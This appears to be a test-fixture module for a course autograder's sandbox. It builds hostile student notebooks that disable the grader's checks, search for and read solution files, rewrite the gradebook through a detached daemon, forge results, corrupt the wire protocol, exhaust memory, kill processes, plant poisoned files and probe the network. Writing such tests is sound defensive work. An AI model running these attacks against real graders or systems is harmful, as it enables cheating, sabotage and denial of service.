"""Lab-01 submissions that attack the grader, one per class of attack (see test_attacks.py).

Every attack is code a student could type into a notebook. Blank-based attacks start from the
untouched student notebook (they deserve 0); the others start from WRONG_AFFINE_BACKWARD (9).
Processes the attacks leave behind carry MARKER in their command line, so that the test can
look for them in /proc afterwards. No attack spells out a hidden test's code (the tests look
for it in the feedback), and none contains the solution's `dout.sum(axis=0)`.
"""
import copy
import uuid

import nbformat

from tests.autograder.submissions import SOURCE, STUDENT, WRONG_AFFINE_BACKWARD, _solved

MARKER = f"ATTACK-MARKER-{uuid.uuid4().hex[:12]}"
SLEEP_MARKER = "987654"


def blank(**replacements):
    """The untouched notebook, with some answer cells' code replaced."""
    notebook = copy.deepcopy(STUDENT)
    for cell in notebook.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in replacements:
            cell.source = replacements[grade_id]
    return notebook


def with_cell_after(notebook, grade_id, code):
    """``notebook`` with a cell of the student's own inserted after the cell ``grade_id``."""
    notebook = copy.deepcopy(notebook)
    index = next(i for i, c in enumerate(notebook.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
    notebook.cells.insert(index + 1, nbformat.v4.new_code_cell(code))
    return notebook


def wrong(**replacements):
    return _solved(**{"affine_backward": WRONG_AFFINE_BACKWARD, **replacements})


STUB_FORWARD = '''
def affine_forward(x, w, b):
    """Affine layer."""
    # YOUR CODE HERE
    raise NotImplementedError()
'''

# 1. Find the grader's machinery in the kernel and switch it off; replace every check.
DISABLE_MACHINERY = r'''
import gc, sys, types, builtins
ip = get_ipython()
for event_name, callbacks in list(ip.events.callbacks.items()):
    callbacks.clear()
sys.setprofile(None)
sys.settrace(None)
_passing = lambda *args, **kwargs: None
import course, course.checks, course.gradcheck
for module_name, module in list(sys.modules.items()):
    if module_name.startswith(("course.checks", "course.gradcheck")) and module is not None:
        for attribute in list(vars(module)):
            if callable(getattr(module, attribute)) and not attribute.startswith("__"):
                try:
                    setattr(module, attribute, _passing)
                except Exception:
                    pass
for name in list(ip.user_ns):
    if name.startswith("check") or name in ("summary", "rel_error", "numerical_gradient"):
        ip.user_ns[name] = _passing
builtins.check_affine_forward = builtins.check_affine_backward = _passing
disabled = 0
for obj in gc.get_objects():
    try:
        module = getattr(obj, "__module__", "") or ""
        if isinstance(obj, types.FunctionType) and module.startswith(("course.checks", "course.gradcheck", "course.probes")) \
                and not obj.__code__.co_freevars:
            obj.__code__ = _passing.__code__
            disabled += 1
    except Exception:
        pass
print("disabled", disabled, "functions")
'''

# 2. The profiler off, then the reference implementation.
PROFILER_OFF_REFERENCE = '''
import sys

def affine_backward(dout, cache):
    sys.setprofile(None)
    sys.settrace(None)
    import course.layers
    return course.layers.affine_backward(dout, cache)
'''

# 3. Look for the instructor's notebook, the gradebook or the real reference on disk; use what
#    is found, and say what was found in an exception the check shows in the feedback.
READ_SOLUTIONS = r'''
import os, sys, time, json
import course

def _hunt():
    hits, seen = [], set()

    def consider(path):
        real = os.path.realpath(path)
        if real in seen:
            return
        seen.add(real)
        try:
            with open(path, "rb") as handle:
                text = handle.read(3_000_000).decode("utf-8", "replace")
        except Exception:
            return
        lab = "affine_backward" in text  # this lab's, not nbgrader's own test notebooks
        if (lab and "BEGIN " + "SOLUTION" in text) or (text.startswith("SQLite format") and "01_backprop" in text) or \
                (lab and "def affine_backward" in text and "not available while grading" not in text
                 and "YOUR CODE HERE" not in text and "NotImplementedError" not in text):
            hits.append((path, text))

    base = os.path.dirname(os.path.dirname(os.path.abspath(course.__file__)))
    candidates = [os.path.join(base, "solutions", "01_backprop", "01_backprop.ipynb"), os.path.join(base, "gradebook.db")]
    for root in ("/proc/1/cwd", "/proc/1/root", f"/proc/{os.getppid()}/cwd", f"/proc/{os.getppid()}/root",
                 "/proc/self/root", "/proc/self/cwd"):
        candidates += [os.path.join(root, "solutions/01_backprop/01_backprop.ipynb"), os.path.join(root, "gradebook.db"),
                       os.path.join(root, base.lstrip("/"), "solutions/01_backprop/01_backprop.ipynb")]
    for candidate in candidates:
        consider(candidate)
    deadline = time.monotonic() + 7
    for top in ("/", "/proc/1/root"):
        for folder, folders, files in os.walk(top):
            if time.monotonic() > deadline:
                break
            if folder in ("/", "/proc/1/root"):
                folders[:] = [f for f in folders if f not in ("proc", "sys", "dev")]
            for name in files:
                if name.endswith(".ipynb") or name == "gradebook.db" or (name.endswith(".py") and "layers" in folder + name):
                    consider(os.path.join(folder, name))
    return hits

HITS = _hunt()
for _path, _text in HITS:
    if _path.endswith(".ipynb"):
        try:
            for _cell in json.loads(_text)["cells"]:
                _source = "".join(_cell["source"])
                if "BEGIN " + "SOLUTION" in _source:
                    exec(_source, globals())
        except Exception:
            pass
    elif _path.endswith(".py"):
        try:
            exec(_text, globals())
        except Exception:
            pass

if "affine_forward" not in globals():
    def affine_forward(x, w, b):
        found = "; ".join(f"{path}: {text[text.find('def affine_backward'):][:250]}" for path, text in HITS)
        raise RuntimeError(f"solutions found: {len(HITS)} {found}")
'''

# 4. A daemon (double fork, own session) that outlives the notebook and writes the gradebook.
ORPHAN_GRADEBOOK_WRITER = r'''
import os, sys
DAEMON = """
import os, sqlite3, time
time.sleep(4)
for top in ("/", "/proc/1/root"):
    for folder, folders, files in os.walk(top):
        if folder == top:
            folders[:] = [f for f in folders if f not in ("proc", "sys", "dev")]
        if "gradebook.db" in files:
            try:
                db = sqlite3.connect(os.path.join(folder, "gradebook.db"), timeout=1)
                db.execute("UPDATE grade SET manual_score = 99")
                db.commit()
            except Exception:
                pass
time.sleep(120)
"""
child = os.fork()
if child == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", DAEMON, "MARKER"])
    os._exit(0)
os.waitpid(child, 0)
print("daemon started")
'''

# 5. Processes in their own sessions, busy.
BUSY_SESSIONS = r'''
import os, subprocess, sys
subprocess.Popen([sys.executable, "-c", "while True: pass", "MARKER"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen(["sleep", "SLEEP_MARKER"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sh", ["/bin/sh", "-c", "while :; do :; done", "MARKER"])
    os._exit(0)
print("busy processes started")
'''

# 6. An exception that carries whatever the kernel knows about the cell being run.
STACK_LEAK = r'''
import gc, inspect, sys

def _harvest():
    texts = []
    frame = sys._getframe()
    while frame is not None:
        texts.append(f"{frame.f_code.co_filename}:{frame.f_code.co_name}")
        for key, value in list(frame.f_locals.items()):
            try:
                texts.append(f"{key}={value!r}"[:400])
            except Exception:
                pass
        frame = frame.f_back
    try:
        for info in inspect.stack():
            texts.append(" ".join(info.code_context or []))
    except Exception:
        pass
    shell = get_ipython()
    for name in ("In", "_ih", "_i", "_ii", "_iii"):
        value = shell.user_ns.get(name)
        texts.extend(str(v) for v in (value if isinstance(value, list) else [value]))
    try:
        texts.extend(str(v) for v in shell.history_manager.input_hist_raw)
    except Exception:
        pass
    for obj in gc.get_objects():
        if isinstance(obj, dict) and isinstance(obj.get("code"), str):
            texts.append(obj["code"])
    words = ("seed" + "=", "HID" + "DEN", "Graded" + " test")  # not spelled out: the outputs are searched for them
    wanted = [t for t in texts if any(word in t for word in words)]
    return " | ".join(wanted + texts)

def affine_backward(dout, cache):
    raise RuntimeError(_harvest())
'''

# 7. Results that pretend: always-equal objects, a NumPy subclass, a dict dressed as an array,
#    NaN, a tuple nested deeper than the wire allows, an array too large for the wire.
FORGE_FORWARD = '''
import numpy as np

class AlwaysEqual:
    shape = property(lambda self: (4, 6))
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __array__(self, *args, **kwargs): return np.zeros((4, 6))
    def __float__(self): return 0.0
    def __len__(self): return 2
    def __getitem__(self, i): return self

def affine_forward(x, w, b):
    return AlwaysEqual(), (x, w, b)
'''
FORGE_BACKWARD = '''
class Liar(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other), dtype=bool)
    def __array_wrap__(self, *args, **kwargs): return self

def affine_backward(dout, cache):
    x, w, b = cache
    return tuple(np.zeros(a.shape).view(Liar) for a in (x, w, b))
'''
FORGE_RELU = '''
import base64

def relu_forward(x):
    fake = {"$": "array", "dtype": "float64", "shape": list(x.shape), "data": base64.b64encode(np.zeros(x.shape).tobytes()).decode(),
            "__array_interface__": {"shape": x.shape, "typestr": "<f8", "version": 3}}
    return fake, x

def relu_backward(dout, cache):
    return {"$": "ref", "ref": 1}
'''
FORGE_SIGMOID = '''
def sigmoid_forward(x):
    return np.full(x.shape, np.nan), None

def sigmoid_backward(dout, cache):
    return np.full(dout.shape, np.inf)
'''
FORGE_SOFTMAX = '''
def softmax_cross_entropy(scores, y):
    nested = ()
    for _ in range(20000):
        nested = (nested,)
    return float("nan"), nested
'''
FORGE_TWO_LAYER = '''
def two_layer_net_loss(params, X, y=None, reg=0.0):
    return np.zeros(26_000_000)  # base64 of 208 MB: more than the wire's 256 MB
'''

# 7b. In place: the backward pass overwrites the judge's upstream gradient with zeros (sent
#     back as an in-place change, as an optimizer's step would be), then returns zeros.
IN_PLACE_FORGERY = '''
import numpy as np

def affine_backward(dout, cache):
    x, w, b = cache
    dout[...] = 0.0
    return np.zeros(x.shape), np.zeros(w.shape), np.zeros(b.shape)
'''

# 8. The kernel's side of the wire, patched to send garbage with every reply.
WIRE_GARBAGE = r'''
import autograder.wire as wire
_send = wire.send

def _evil_send(sock, message):
    if "value" in message or "missing" in message or "error" in message:
        message = {
            "value": {"$": "tuple", "items": [{"$": "ref", "ref": 1}, {"$": "handle", "id": "nope"},
                                              {"$": "array", "dtype": "object", "shape": [1], "data": ""}]},
            "changes": [[1, {"$": "array", "dtype": "float64", "shape": [4294967296, 4294967296], "data": ""}],
                        [2, {"$": "list", "items": [{"$": "handle", "id": 10 ** 6}]}], [3, "garbage"], "junk",
                        [4, {"$": "dict", "items": [["W1", {"$": "scalar", "dtype": "float64", "value": "x"}]]}]],
            "error": "not a dict",
        }
    _send(sock, message)

wire.send = _evil_send
'''

# 8b. Frames the judge's reader chokes on, written straight to the kernel's socket.
def raw_frame(payload_expression):
    return f'''
import gc, struct
_responder = next(o for o in gc.get_objects() if type(o).__name__ == "Responder")
_payload = {payload_expression}
_responder.sock.sendall(struct.pack(">Q", len(_payload)) + _payload)
'''


DEEP_JSON = raw_frame('b"[" * 200000 + b"]" * 200000')
BIG_VALID_JSON = raw_frame('b\'{"status": "ok", "x": [\' + b"{}," * 16_000_000 + b"{}]}"')  # 48 MB
HUGE_INTEGER = raw_frame('b\'{"status": "ok", "x": \' + b"7" * 6000 + b"}"')

# 8c. A class where a function belongs: the judge must not take the kernel's word that it is a
#     constructor, whose arguments later replies could then rewrite. The backward pass zeroes the
#     kernel's copies of the forward pass's x and w, hoping that its reply zeroes the judge's.
CONSTRUCTOR_FORWARD = """
import gc
import numpy as np

_kept = []

class affine_forward:
    def __new__(cls, x, w, b):
        _kept[:] = [x, w]
        return np.dot(x.reshape(x.shape[0], -1), w) + b, None
"""
ZEROING_BACKWARD = """
def affine_backward(dout, cache):
    responder = next(o for o in gc.get_objects() if type(o).__name__ == "Responder")
    for ref in list(responder.refs):
        value = responder._live(ref)
        if isinstance(value, np.ndarray) and value is not dout:
            value[...] = 0.0
    return np.zeros_like(_kept[0]), np.zeros_like(_kept[1]), np.einsum("nm->m", dout)
"""

# 8d. Limits that must bound the whole sandbox. Memory in a memfd (no process's resident memory,
#     no file system's), 2.6 GB against a limit of 1500 MB.
MEMFD_HOG = r"""
import os, time
fd = os.memfd_create("MARKER-memfd")
for step in range(1, 11):  # 2.6 GB in steps of 260 MB: fallocate fills pages faster than writes
    os.posix_fallocate(fd, 0, step * (260 << 20))
time.sleep(3)
print("held 2.6 GB in a memfd and was not stopped")
"""

# A reply that sends half a frame and stalls, with SIGINT ignored and the parent-death signal cleared.
HALF_FRAME_STALL = r"""
import ctypes, gc, signal, struct, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
_responder = next(o for o in gc.get_objects() if type(o).__name__ == "Responder")
_responder.sock.sendall(struct.pack(">Q", 1000) + b'{"status": ')
while True:
    time.sleep(1)
"""

# A kernel that never exits: 16 busy children holding memory, every signal they can ignore
# ignored, parent-death signal cleared; then the kernel itself loops with SIGINT ignored.
NEVER_EXITS = r"""
import ctypes, signal, subprocess, sys
CHILD = '''
import ctypes, signal
for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
    signal.signal(number, signal.SIG_IGN)
ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
held = bytearray(40 << 20)
while True:
    pass
'''
for _ in range(16):
    subprocess.Popen([sys.executable, "-c", CHILD, "MARKER"], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
signal.signal(signal.SIGINT, signal.SIG_IGN)
ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
while True:
    pass
"""

# 9. The network, from Python, around Python's audit hooks, and through an abstract Unix socket.
NETWORK_TEMPLATE = r'''
import ctypes, socket, struct

def _attempts():
    results = []
    for address in (("127.0.0.1", PORT), ("8.8.8.8", 53), ("1.1.1.1", 80)):
        try:
            socket.create_connection(address, timeout=2).close()
            results.append(f"{address} CONNECTED")
        except BaseException as error:
            results.append(f"{address} refused ({type(error).__name__})")
    try:
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.sendto(b"x", ("8.8.8.8", 53))
        results.append("udp SENT")
    except BaseException as error:
        results.append(f"udp refused ({type(error).__name__})")
    libc = ctypes.CDLL(None, use_errno=True)
    for host, port in (("127.0.0.1", PORT), ("8.8.8.8", 53)):
        fd = libc.socket(2, 1, 0)
        address = struct.pack("<HH4s8x", 2, socket.htons(port), socket.inet_aton(host))
        buffer = ctypes.create_string_buffer(address)
        code = libc.connect(fd, buffer, len(address))
        results.append(f"libc {host}:{port} " + ("CONNECTED" if code == 0 else f"refused (errno {ctypes.get_errno()})"))
    try:
        unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        unix.connect(ABSTRACT)
        unix.sendall(b"hello from the sandbox")
        results.append("abstract unix CONNECTED")
    except BaseException as error:
        results.append(f"abstract unix refused ({type(error).__name__})")
    return "; ".join(results)

NETWORK = _attempts()
print(NETWORK)

def affine_forward(x, w, b):
    raise RuntimeError("network: " + NETWORK)
'''

# 10. Another student's kernel: look for it, kill everything, leave files for the next kernel.
NEIGHBOURS = r'''
import os, signal
pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
print("I am", os.getpid(), "and I see", pids)
try:
    os.kill(-1, signal.SIGKILL)
except Exception as error:
    print("kill -1:", error)
for pid in range(2, 4096):
    try:
        os.kill(pid, signal.SIGKILL)
    except Exception:
        pass
for path in ("/tmp/numpy.py", "/tmp/work/numpy.py", "/tmp/home/.ipython", "/dev/shm/numpy.py", "/dev/numpy.py"):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as handle:
            handle.write("raise SystemExit('poisoned by a neighbour')\n")
    except Exception as error:
        print("could not write", path, error)
'''

# 10b. Files left for the next kernel of the same worker, and a kernel that reads them.
PLANT = r'''
import os
for folder in ("/tmp", "/dev/shm", "/dev"):
    try:
        with open(os.path.join(folder, "MARKER-planted"), "w") as handle:
            handle.write("a secret planted by the previous student")
    except Exception as error:
        print("could not write in", folder, error)
'''
READ_PLANTED = r'''
import os

def affine_forward(x, w, b):
    found = []
    for folder in ("/tmp", "/dev/shm", "/dev"):
        for name in os.listdir(folder):
            if "planted" in name:
                with open(os.path.join(folder, name)) as handle:
                    found.append(f"{folder}/{name}: {handle.read()}")
    raise RuntimeError("planted files: " + ("; ".join(found) or "none"))
'''

# 10c. Memory that is not any process's: a file in the sandbox's /dev (a tmpfs without a size).
DEV_MEMORY_HOG = r'''
import os, time
chunk = b"\1" * (64 << 20)
with open("/dev/shm/MARKER-hog", "wb") as handle:
    for _ in range(32):  # 2 GB, above the memory limit of 1500 MB
        handle.write(chunk)
time.sleep(3)
print("wrote 2 GB to /dev/shm and was not stopped")
'''


def _mark(code):
    return code.replace("SLEEP_MARKER", SLEEP_MARKER).replace("MARKER", MARKER)


def network_code(port, abstract):
    return NETWORK_TEMPLATE.replace("PORT", str(port)).replace("ABSTRACT", repr(abstract))


def main_batch(port, abstract):
    """student -> (notebook, expected score)"""
    return {
        "correct": (_solved(), 16),
        "wrong_backward": (wrong(), 10),
        "disable_machinery_blank": (with_cell_after(blank(), "imports", DISABLE_MACHINERY), 0),
        "disable_machinery_wrong": (with_cell_after(wrong(), "imports", DISABLE_MACHINERY), 10),
        "profiler_off_reference": (wrong(affine_backward=PROFILER_OFF_REFERENCE), 10),
        "read_solutions": (blank(affine_forward=READ_SOLUTIONS), 0),
        "orphan_gradebook_writer": (with_cell_after(blank(), "imports", _mark(ORPHAN_GRADEBOOK_WRITER)), 0),
        "busy_sessions": (with_cell_after(blank(), "imports", _mark(BUSY_SESSIONS)), 0),
        "stack_leak": (wrong(affine_backward=STACK_LEAK), 10),
        "forged_results": (blank(affine_forward=FORGE_FORWARD, affine_backward=FORGE_BACKWARD, relu=FORGE_RELU,
                                 sigmoid=FORGE_SIGMOID, softmax_cross_entropy=FORGE_SOFTMAX,
                                 two_layer_net=FORGE_TWO_LAYER), 0),
        "in_place_forgery": (wrong(affine_backward=IN_PLACE_FORGERY), 10),
        "constructor_forgery": (wrong(affine_forward=CONSTRUCTOR_FORWARD, affine_backward=ZEROING_BACKWARD), 10),
        "wire_garbage": (with_cell_after(blank(), "imports", WIRE_GARBAGE), 0),
        "network": (blank(affine_forward=network_code(port, abstract)), 0),
        "neighbours": (with_cell_after(blank(), "imports", NEIGHBOURS), 0),
    }


def ordered_batch():
    """Graded one after another by one worker, in this (alphabetical) order."""
    return {
        "a_plants_files": (with_cell_after(blank(), "imports", _mark(PLANT)), 0),
        "b_reads_planted_files": (blank(affine_forward=READ_PLANTED), 0),
        "c_dev_memory_hog": (with_cell_after(blank(), "imports", _mark(DEV_MEMORY_HOG)), 0),
        "d_correct": (_solved(), 16),
    }


def reader_choking_batch():
    return {
        "correct": (_solved(), 16),
        "deep_json_frame": (with_cell_after(blank(), "imports", DEEP_JSON), 0),
        "huge_integer_frame": (with_cell_after(blank(), "imports", HUGE_INTEGER), 0),
        "big_valid_json_frame": (with_cell_after(blank(), "imports", BIG_VALID_JSON), 0),
    }


def bounds_batch():
    """Attacks on the limits: each must be stopped by them, and leave nothing behind."""
    return {
        "correct": (_solved(), 16),
        "half_frame_stall": (with_cell_after(blank(), "imports", HALF_FRAME_STALL), 0),
        "memfd_hog": (with_cell_after(blank(), "imports", _mark(MEMFD_HOG)), 0),
        "never_exits": (with_cell_after(blank(), "imports", _mark(NEVER_EXITS)), 0),
    }


__all__ = ["MARKER", "SLEEP_MARKER", "SOURCE", "bounds_batch", "main_batch", "ordered_batch", "reader_choking_batch"]
